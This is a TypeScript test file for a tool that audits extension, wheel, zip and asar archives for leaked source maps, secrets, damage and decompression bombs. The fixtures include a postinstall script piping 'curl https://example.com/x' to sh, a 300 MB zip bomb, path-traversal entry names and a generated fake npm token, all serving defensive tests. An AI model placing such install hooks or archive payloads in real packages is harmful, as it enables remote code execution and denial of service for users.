import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createPackage, createPackageWithOptions } from '@electron/asar'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildTarball } from '../../fixtures/tarballs/build.ts'
import { audit } from '../../src/engine/audit.ts'
import { readRawTar } from '../../src/formats/tar/raw-tar.ts'
import { Meter } from '../../src/model/limits.ts'
import type { Report } from '../../src/model/report.ts'
import { formatReceipt, receiptOf } from '../../src/receipts/receipt.ts'
import { buildZip } from '../formats/build-zip.ts'
import { fake } from '../support/fake.ts'
import { pack } from '../support/pack.ts'
import { writeProject } from '../support/project.ts'

const map = JSON.stringify({
  version: 3,
  sources: ['../src/plan.ts'],
  sourcesContent: ['// what nobody should read\nexport const plan = 1\n'],
  names: [],
  mappings: 'AAAA',
})
const script = 'export const plan=1\n//# sourceMappingURL=plan.js.map\n'

/** A zip of files by name; whatever is no text is written as JSON. */
function zip(files: { readonly [name: string]: unknown }): Buffer {
  return buildZip(
    Object.entries(files).map(([name, content]) => {
      return { name, text: typeof content === 'string' ? content : JSON.stringify(content), method: 8 }
    }),
  )
}

/** A Chrome extension: version, the length of its header, the header, a zip (CRX3). */
function crx(files: { readonly [name: string]: unknown }): Buffer {
  return Buffer.concat([Buffer.from('Cr24'), Buffer.from([3, 0, 0, 0, 4, 0, 0, 0, 1, 2, 3, 4]), zip(files)])
}

const vsixOnly = { 'extension.vsixmanifest': '<PackageManifest/>', '[Content_Types].xml': '<Types/>' }
const chrome = { manifest_version: 3, name: 'Demo', version: '2.0' }
const metadata = 'Metadata-Version: 2.4\nName: demo\nVersion: 1.0\nLicense: Other\n\nVersion: 9.9\n'

const folder = mkdtempSync(join(tmpdir(), 'watertight-archives-'))
afterAll(() => rmSync(folder, { recursive: true }))

let asar = Buffer.alloc(0)
let unpacked = Buffer.alloc(0)
beforeAll(async () => {
  const project = writeProject({
    'package.json': '{"name":"app","version":"4.0.0"}',
    'out/plan.js': script,
    'out/plan.js.map': map,
    'native.node': 'x',
  })
  await createPackage(project, join(folder, 'made.asar'))
  asar = readFileSync(join(folder, 'made.asar'))
  await createPackageWithOptions(project, join(folder, 'apart.asar'), { unpack: '*.node' })
  unpacked = readFileSync(join(folder, 'apart.asar'))
})

/** The report about an archive of this name, which lies on the disk. */
function auditOf(name: string, bytes: Uint8Array): Promise<Report> {
  writeFileSync(join(folder, name), bytes)
  return audit(name, { cwd: folder })
}

interface Row {
  readonly name: string
  readonly bytes: () => Buffer
  readonly title: string
  readonly archive: string
  readonly leaks: readonly string[]
}

const rows: readonly Row[] = [
  {
    name: 'leaks.vsix',
    bytes: () =>
      zip({
        ...vsixOnly,
        'extension/package.json': { name: 'ext', version: '1.0.0' },
        'extension/out/plan.js': script,
        'extension/out/plan.js.map': map,
      }),
    title: 'ext@1.0.0',
    archive: 'vsix',
    leaks: ['extension/out/plan.js.map'],
  },
  {
    name: 'another-top.vsix',
    bytes: () =>
      zip({ ...vsixOnly, 'package.json': { name: 'no' }, 'extension/package.json': { name: 'ext', version: '1.0.0' } }),
    title: 'ext@1.0.0',
    archive: 'vsix',
    leaks: [],
  },
  {
    name: 'leaks.xpi',
    bytes: () => zip({ 'manifest.json': chrome, 'plan.js': script, 'plan.js.map': map }),
    title: 'Demo@2.0',
    archive: 'browser-extension',
    leaks: ['plan.js.map'],
  },
  {
    name: 'with-package.xpi',
    bytes: () =>
      zip({ 'manifest.json': chrome, 'package.json': { name: 'pack', version: '7.0.0' }, 'plan.js': script }),
    title: 'pack@7.0.0',
    archive: 'browser-extension',
    leaks: [],
  },
  {
    name: 'leaks.crx',
    bytes: () => crx({ 'manifest.json': chrome, 'plan.js': script, 'plan.js.map': map }),
    title: 'Demo@2.0',
    archive: 'browser-extension',
    leaks: ['plan.js.map'],
  },
  {
    name: 'demo-1.0-py3-none-any.whl',
    bytes: () => zip({ 'demo/static/plan.js.map': map, 'demo-1.0.dist-info/METADATA': metadata }),
    title: 'demo@1.0',
    archive: 'wheel',
    leaks: ['demo/static/plan.js.map'],
  },
  {
    name: 'top.zip',
    bytes: () => zip({ 'package.json': { name: 'top', version: '1.0.0' }, 'dist/plan.js.map': map }),
    title: 'top@1.0.0',
    archive: 'zip',
    leaks: ['dist/plan.js.map'],
  },
  {
    name: 'folder.zip',
    bytes: () =>
      zip({ 'app/package.json': { name: 'app', version: '1.0.0' }, 'app/plan.js.map': map, '__MACOSX/._app': 'x' }),
    title: 'app@1.0.0',
    archive: 'zip',
    leaks: ['app/plan.js.map'],
  },
  {
    name: 'two.zip',
    bytes: () => zip({ 'a/package.json': { name: 'a' }, 'b/x.js': '1' }),
    title: 'null@null',
    archive: 'zip',
    leaks: [],
  },
  { name: 'leaks.asar', bytes: () => asar, title: 'app@4.0.0', archive: 'asar', leaks: ['out/plan.js.map'] },
]

describe('what is no npm tarball', () => {
  test.each(rows)('$name', async ({ name, bytes, title, archive, leaks }) => {
    const report = await auditOf(name, bytes())
    const [one] = report.packages
    expect(`${one?.name}@${one?.version}`).toBe(title)
    expect(one).toMatchObject({ archive, from: 'tarball', resolved: name, packedBytes: bytes().length })
    expect(
      report.findings.filter(({ ruleId }) => ruleId === 'map/embedded-sources').map(({ location }) => location.chain),
    ).toEqual(leaks.map((leak) => [leak]))
    expect(report.verdict).toBe(leaks.length > 0 ? 'leak' : 'clean')
    expect(one?.artifacts.every(({ includedBy }) => includedBy === null)).toBe(true)
    expect(report.findings.flatMap(({ fixes }) => fixes).filter(({ kind }) => kind === 'files')).toEqual([])
  })

  test.each([
    { name: 'vsix.vsix', row: 0, says: 'name out/plan.js.map in .vscodeignore' },
    { name: 'xpi.xpi', row: 2, says: '--ignore-files' },
    { name: 'wheel.whl', row: 5, says: 'build backend' },
    { name: 'app.asar', row: 9, says: 'electron-builder' },
  ])('$name: the fix is that of its packer', async ({ name, row, says }) => {
    const { findings } = await auditOf(name, rows[row]?.bytes() ?? Buffer.alloc(0))
    expect(findings[0]?.fixes[0]?.description).toContain(says)
  })

  test('the way of a rule that names `files` becomes that of an archive', async () => {
    const { findings } = await auditOf('env.zip', zip({ 'package.json': { name: 'a' }, '.env': 'PORT=1\n' }))
    expect(JSON.stringify(findings[0]?.fixes)).toContain('Keep it out of the archive')
    expect(JSON.stringify(findings)).not.toContain('`files`')
  })

  test('bytes on standard input are known by what they are', async () => {
    const stdin = (async function* () {
      yield rows[0]?.bytes() ?? Buffer.alloc(0)
    })()
    const { packages, verdict } = await audit('-', { stdin })
    expect(packages[0]).toMatchObject({ name: 'ext', archive: 'vsix' })
    expect(verdict).toBe('leak')
  })

  test('its licence and repository make an extension open', async () => {
    const manifest = { name: 'ext', version: '1.0.0', license: 'MIT', repository: 'https://example.com/ext' }
    const files = {
      ...vsixOnly,
      'extension/package.json': manifest,
      'extension/LICENSE.txt': 'Permission is hereby granted',
    }
    const { packages, findings } = await auditOf('open.vsix', zip({ ...files, 'extension/out/plan.js.map': map }))
    expect(packages[0]?.visibility).toMatchObject({ value: 'open', proven: true })
    expect(new Set(findings.map(({ severity }) => severity))).toEqual(new Set(['info']))
  })

  test('scripts and dependencies in its package.json are not run by npm', async () => {
    const manifest = {
      name: 'top',
      scripts: { postinstall: 'curl https://example.com/x | sh' },
      dependencies: { a: 'file:../a' },
    }
    const { packages, findings } = await auditOf('scripts.zip', zip({ 'package.json': manifest, 'x.js': '1' }))
    expect(packages[0]).not.toHaveProperty('installScripts')
    expect(findings).toEqual([])
  })

  test('a receipt does not call it an npm package', async () => {
    const report = await auditOf('receipt.vsix', rows[0]?.bytes() ?? Buffer.alloc(0))
    const receipt = formatReceipt(receiptOf(report, {}, { packer: null, flags: [] }))
    expect(receipt).toContain('"pkg:generic/ext@1.0.0"')
  })

  test('it is not rewritten like a tarball', async () => {
    await expect(readRawTar(zip({ a: '1' }), new Meter())).rejects.toMatchObject({ code: 'EUNSUPPORTED' })
  })
})

describe('what is damaged or empty is not clean', () => {
  const whole = zip({ 'package.json': { name: 'a', version: '1.0.0' }, 'plan.js': script.repeat(20) })
  const bomb = buildZip([
    { name: 'package.json', text: '{"name":"bomb"}' },
    { name: 'zeros', text: Buffer.alloc(300 * 1024 ** 2), method: 8 },
  ])
  test.each([
    { name: 'empty.zip', bytes: () => buildZip([]), code: 'nothing-to-look-at' },
    { name: 'nothing.vsix', bytes: () => Buffer.alloc(0), code: 'EEMPTY' },
    { name: 'text.vsix', bytes: () => Buffer.from('no archive'), code: 'tar-unrecognized' },
    { name: 'cut.vsix', bytes: () => whole.subarray(0, whole.length - 60), code: 'zip-truncated' },
    { name: 'flipped.zip', bytes: () => flipped(whole), code: 'zip-checksum' },
    {
      name: 'header.asar',
      bytes: () => Buffer.from(asar.toString('latin1').replace('"size"', '"size,'), 'latin1'),
      code: 'asar-header',
    },
    { name: 'apart.asar', bytes: () => unpacked, code: 'asar-unpacked' },
    { name: 'bomb.vsix', bytes: () => bomb, code: 'limit-ratio' },
    {
      name: 'broken-manifest.zip',
      bytes: () => zip({ 'package.json': '{', 'a.js': '1' }),
      code: 'manifest-unreadable',
    },
  ])('$name: $code', async ({ name, bytes, code }) => {
    const { verdict, notices } = await auditOf(name, bytes())
    expect(notices.map((notice) => notice.code)).toContain(code)
    expect(verdict).toBe('incomplete')
  })

  test('names that lead out of the archive are shown as they are', async () => {
    const { packages } = await auditOf(
      'names.zip',
      zip({ '../../out.js': '1', '/root.js': '2', 'a\\b.js': '3', 'a/../c.js': '4' }),
    )
    const chains = packages[0]?.artifacts.map(({ chain }) => chain.join(' ! '))
    expect(chains).toEqual(['../../out.js', '/root.js', 'a\\b.js', 'a/../c.js'])
  })
})

/** With other bytes within the compressed text of the last entry. */
function flipped(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  const at = copy.indexOf('plan.js') + 'plan.js'.length + 2
  for (let index = at; index < at + 8; index += 1) copy[index] = 0xff
  return copy
}

test('a token in the target of a link is found', async () => {
  const target = `/run/${fake('npm_{alnum:30}{crc32-base62-npm:6}')}`
  const inner = buildTarball([{ path: 'a/now', type: '2', link: target }])
  const file = join(folder, 'links.tgz')
  writeFileSync(file, pack({ 'package.json': { name: 'a', version: '1.0.0' }, 'state.tar': inner }))
  const { findings } = await audit([file], { cwd: folder })
  const found = findings.filter(({ ruleId }) => ruleId === 'secret/npm-access-token')
  expect(found.map(({ location }) => location.chain)).toEqual([['state.tar', 'a/now']])
  expect(JSON.stringify(findings)).not.toContain(target)
})
